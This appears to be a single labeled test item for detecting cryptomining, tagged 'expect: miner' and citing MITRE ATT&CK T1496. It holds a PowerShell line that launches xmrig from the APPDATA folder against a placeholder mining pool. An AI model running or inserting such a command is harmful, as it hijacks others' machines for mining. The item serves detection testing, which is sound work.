# expect: miner | source: MITRE ATT&CK T1496
Start-Process "$env:APPDATA\xmrig.exe" -ArgumentList '-o stratum+tcp://pool.example.invalid:3333 -u x'
